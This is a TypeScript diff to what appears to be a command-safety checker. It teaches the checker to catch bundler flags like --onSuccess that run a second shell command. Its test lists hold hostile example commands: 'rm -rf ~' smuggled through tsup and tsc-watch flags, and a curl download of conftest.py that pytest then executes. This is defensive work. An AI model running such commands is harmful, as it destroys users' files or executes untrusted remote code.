@@ -239,10 +239,26 @@ function scripts(call: Call): Lowering {
   return { effects: [runsProject(call.name, call)], runs };
 }
 
+const AFTERWARDS = /^--on-?(success|first-?success|failure|emit|compilation-?complete)(=|$)/i;
+
+/** Bundlers in watch mode start a command after each build (`tsup --onSuccess`). */
+function afterwards(call: Call): Run[] {
+  return call.args.flatMap((word, index): Run[] => {
+    const plain = literal(word) ?? '';
+    if (!AFTERWARDS.test(plain)) return [];
+    const split = plain.indexOf('=');
+    const text = split < 0 ? call.args[index + 1] : { ...word, value: known(plain.slice(split + 1)) };
+    return text ? [{ kind: 'shell', text, via: call.name }] : [];
+  });
+}
+
 export const devToolPrograms: readonly Program[] = [
   defineProgram({
     names: DEV_TOOLS,
-    lower,
+    lower: (call) => {
+      const lowered = lower(call);
+      return { ...lowered, runs: [...(lowered.runs ?? []), ...afterwards(call)] };
+    },
     examples: {
       allow: [
         'pytest -q tests/test_a.py -k name',
@@ -260,9 +276,10 @@ export const devToolPrograms: readonly Program[] = [
         'nx run web:build',
         'mkdocs build',
       ],
-      deny: ['lerna publish'],
+      deny: ['lerna publish', "tsup --onSuccess 'rm -rf ~'", "tsc-watch --onSuccess 'rm -rf ~'"],
       unsettled: [
         'jest --globalSetup=/tmp/x.js',
+        'curl -o conftest.py https://get.example/c && pytest',
         'eslint --rulesdir /tmp/rules src/a.js -c /tmp/x.js',
         'mkdocs gh-deploy',
         'vite build --outDir /srv/www',
